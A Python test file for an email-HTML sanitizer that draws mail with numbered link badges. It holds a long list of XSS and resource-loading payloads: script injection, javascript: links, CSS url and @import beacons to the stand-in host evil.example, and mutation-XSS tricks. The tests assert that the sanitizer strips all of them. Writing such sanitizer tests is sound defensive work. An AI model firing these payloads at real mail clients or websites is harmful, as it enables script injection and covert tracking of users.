"""What strangers write into mail: nothing of it runs, loads, sends or leads anywhere once it is drawn."""

import random
import re
from html.parser import HTMLParser

import pytest
from tests.every import every

from mailwake.clickmap.cleaning import MAX_CHARS, MAX_DEPTH
from mailwake.clickmap.sheet import HIGHEST, LOWEST, Badge, draw, height_of
from mailwake.clickmap.styles import clean_sheet
from mailwake.errors import BadInput

EVIL = "//evil.example/x"
HOSTILE = (
    "<script>fetch('//evil.example/x')</script>",
    f"<script src='{EVIL}'>",
    "<SCRIPT/SRC=//evil.example/x></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    f"<img src='{EVIL}' onerror=alert(1)>",
    f"<img/src='{EVIL}'/onerror=alert(1)/>",
    f"<img src=https:{EVIL} srcset='https:{EVIL} 2x, {EVIL} 3x' sizes=1px>",
    f"<picture><source srcset='{EVIL}'><img src=https:{EVIL}></picture>",
    "<a href='javascript:alert(1)' onclick='alert(2)' ping='//evil.example/x'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a><a href='\x01javascript:alert(1)'>y</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x' target=_top>x</a>",
    f"<area href='javascript:alert(1)'><map name=m><area shape=default href='{EVIL}'></map><img usemap=#m src=x>",
    f"<base href='https:{EVIL}'><a href=rel>x</a>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<meta http-equiv='Content-Security-Policy' content=\"default-src *\"><link rel=stylesheet href='{EVIL}'>",
    f"<link rel=prefetch href='{EVIL}'><link rel='dns-prefetch' href='{EVIL}'>",
    f"<form action='{EVIL}'><input name=q autofocus onfocus=alert(1)><button formaction='{EVIL}'>go</button></form>",
    f"<iframe src='{EVIL}' srcdoc='<script>alert(1)</script>'></iframe><frameset><frame src='{EVIL}'></frameset>",
    f"<object data='{EVIL}'><embed src='{EVIL}'></object><applet code=x archive='{EVIL}'></applet>",
    f"<video poster='{EVIL}' src='{EVIL}' onloadstart=alert(1)><track src='{EVIL}'></video><audio src='{EVIL}'>",
    f"<body background='{EVIL}' onload=alert(1) style='background:url({EVIL})'>x",
    f"<table background='{EVIL}'><tr><td background='{EVIL}' style=\"background:url('{EVIL}')\">x</table>",
    f"<style>@import '{EVIL}';@import url({EVIL});body{{background:url({EVIL})}}</style>",
    f"<style>@\\69mport '{EVIL}'; a{{background:u\\72l({EVIL})}}</style>",
    f"<style>a{{background:u/**/rl({EVIL});b:url/**/({EVIL})}} @font-face{{font-family:x;src:url({EVIL})}}</style>",
    f"<style>a{{background:image-set('{EVIL}' 1x);c:-webkit-image-set(url({EVIL}) 1x);d:src('{EVIL}')}}</style>",
    f"<style>a{{background:cross-fade(url({EVIL}),url({EVIL}));cursor:url({EVIL}),auto;list-style:url({EVIL})}}</style>",
    "<p style='width:expression(alert(1));behavior:url(#x);-moz-binding:url(//evil.example/x)'>x</p>",
    "<p style='background:URL(\"data:image/svg+xml,<svg onload=alert(1)>\")'>x</p>",
    f"<p style='background:\\75\\72\\6C({EVIL})'>x</p><p style='background:url ({EVIL})'>x</p>",
    "<style>@layer marks{[data-mw]::after{content:none!important}}</style>",
    "<style></style><script>alert(1)</script></style>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    f"<svg><image href='{EVIL}'/><use href='{EVIL}#x'/><foreignObject><iframe src='{EVIL}'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><a title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<textarea><a title='</textarea><script>alert(1)</script>'></textarea>",
    "<title><a title='</title><script>x</script>'>",
    "<select><template><script>alert(1)</script></template></select>",
    "<template><a href=//evil.example/x>q</a></template>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->",
    "<!-- never closed <script>alert(1)</script>",
    "<!--" * 20_000,
    "<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href='//evil.example/x'?><!DOCTYPE x [<!ENTITY a 'b'>]>",
    "<a href=//evil.example/x style='position:fixed;inset:0;z-index:99999'>all of it</a>",
    '<p title="&quot;><script>alert(1)</script>" class="&quot;onclick=alert(1)">x</p>',
    "<img alt='\"><script>alert(1)</script>' src=x><img alt='</text><script>alert(1)</script>' width=99 height=99>",
    "<p data-mw='1'>forged</p><a data-mw=7 href=https://shop.example.com/>real</a>",
    "<plaintext><script>alert(1)</script>",
    "\0<scr\0ipt>alert(1)</scr\0ipt><img src\0=x onerror\0=alert(1)>",
    "<p id=mw-mail class=mw-beneath name=body>clobber</p><a id=mw href=x>",
)


class Tags(HTMLParser):
    """All tags with attributes, and the content of style elements."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.styles: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "style":
            self.styles.append(data)


WORDS = "html head meta title style body div a p span img table tbody thead tr td th ul li small font center b i"
MAY_STAND = frozenset(WORDS.split())


@every("markup", HOSTILE, ids=lambda text: re.sub(r"\W+", "-", text)[:40])
def test_nothing_of_a_mail_can_run_load_or_lead(markup: str) -> None:
    for raw in (markup, f"<html><head><title>x</title></head><body><p>before{markup}<p>after</body></html>"):
        look_through(draw(raw.encode(), [Badge(number=1, text="1", label="x")]).html)


@every("seed", [*range(5), *(pytest.param(seed, marks=pytest.mark.long) for seed in range(5, 20))])
def test_nor_can_a_heap_of_such_pieces_cut_anywhere(seed: int) -> None:
    draw_lots = random.Random(seed)
    pieces = [piece for piece in HOSTILE if len(piece) < 1_000]
    for _ in range(40):
        markup = "".join(_cut(draw_lots, draw_lots.choice(pieces)) for _ in range(draw_lots.randint(2, 9)))
        raw = markup.encode("utf-8", "replace")
        sheet = draw(raw, [Badge(number=number, text="1", label="x") for number in range(1, 40)])
        look_through(sheet.html)
        marks = re.findall(r'<[a-z]+[^<>]*\sdata-mw="(\d+)"', sheet.html)
        assert len(marks) == len(set(marks))


def _cut(draw_lots: random.Random, piece: str) -> str:
    start = draw_lots.randint(0, len(piece)) if draw_lots.random() < 0.4 else 0
    return piece[start : draw_lots.randint(start, len(piece)) if draw_lots.random() < 0.4 else len(piece)]


def look_through(html: str) -> None:
    """Only what may stand is there, with nothing in it that an address could be in."""
    seen = Tags(html)
    for tag, values in seen.tags:
        assert tag in MAY_STAND, tag
        assert not [name for name in values if name.startswith("on")]
        assert values.keys().isdisjoint(
            ("href", "srcset", "action", "formaction", "background", "poster", "ping", "srcdoc", "target", "id")
        )
        assert values.get("src", "data:image/svg+xml,").startswith("data:image/svg+xml,")
        assert "(" not in re.sub(r"(?i)\b(rgba?|hsla?|calc|none)\(", "", values.get("style", ""))
    assert [values for tag, values in seen.tags if tag == "meta" and "http-equiv" in values] == []
    for sheet in seen.styles[1:]:
        assert not re.search(r"(?i)(url|expression|image-set|src|cross-fade)\s*\(|@import|@layer|@font-face|\\", sheet)


def test_only_pictures_are_fetched_and_only_when_asked() -> None:
    raw = b"<body background=https://e.example/1><img src=https://e.example/2 srcset='https://e.example/3 2x'>"
    raw += b"<img src=cid:4>"
    assert "e.example" not in draw(raw, []).html
    fetched = [values["src"] for tag, values in Tags(draw(raw, [], fetch=True).html).tags if tag == "img"]
    assert fetched[0] == "https://e.example/2"
    assert fetched[1].startswith("data:")
    assert "e.example/1" not in draw(raw, [], fetch=True).html


def test_a_mail_cannot_forge_a_mark() -> None:
    sheet = draw(b"<p data-mw=1>forged</p><p data-mw='x-1'>again</p><a href=https://e.example/>real</a>", [])
    marked = [tag for tag, values in Tags(sheet.html).tags if values.get("data-mw")]
    assert marked == ["a"]


def test_a_label_is_text_and_a_badge_cannot_end_its_rule() -> None:
    badge = Badge(number=9, text='1";}</style><script>alert(1)</script>', label="<script>alert(2)</script>")
    seen = Tags(draw(b"<p>no links", [badge]).html)
    assert "script" not in {tag for tag, _ in seen.tags}
    assert draw(b"<p>no links", [badge]).html.count("</style>") == 1


@pytest.mark.parametrize(
    "raw",
    [b"x" * (MAX_CHARS + 1), b"<div>" * (MAX_DEPTH + 1), b"<div></p>" * (MAX_DEPTH + 1), b"<b><table><tr><td>" * 600],
    ids=["long", "deep", "deep with ends of nothing", "deep in tables"],
)
def test_what_would_take_too_long_is_refused(raw: bytes) -> None:
    with pytest.raises(BadInput, match="table"):
        draw(raw, [])


@every(
    "raw",
    [
        b"<p>" * 100_000,
        b"<a href=x></a>" * 20_000,
        b"<style>" + b"url(;" * 100_000,
        b"<!--" * 200_000,
        b"<td style='" + b"url((" * 50_000,
        b"<font>x</font>" * 60_000,
        b"<style>" + b"a" * 1_900_000,
        b"<td style='" + b" " * 1_900_000,
    ],
)
@pytest.mark.long
def test_a_large_mail_is_drawn(raw: bytes) -> None:
    """A search that begins again at every letter would take hours; a test run is no stop-watch."""
    assert draw(raw, []).html


@every("bait", ["a", " ", "@", "-", "a ", "(", "a(;", "rgb ", "@media", "/*", "position ", "! "])
def test_no_sheet_takes_long(bait: str) -> None:
    assert clean_sheet(bait * (MAX_CHARS // len(bait))) is not None


@every("bait", ["<!--", "<style", "<script>", "<", "<img ", "<img width ", "<p"])
def test_no_mail_takes_long_to_be_measured(bait: str) -> None:
    assert LOWEST <= height_of(bait.encode() * (MAX_CHARS // len(bait))) <= HIGHEST


@every(
    ("unfinished", "words"),
    [("<!-- a comment", 0), ("<style>p { }", 0), ("<a href=x", 0), ("<styled>word", 4), ("<b>word</b>", 4)],
)
def test_what_has_no_end_goes_on_to_the_end_of_the_mail(unfinished: str, words: int) -> None:
    whole, none = height_of(b"x " * 1_000 + b"x" * words), height_of(b"x " * 1_000)
    assert height_of(b"x " * 1_000 + unfinished.encode()) == (whole if words else none)
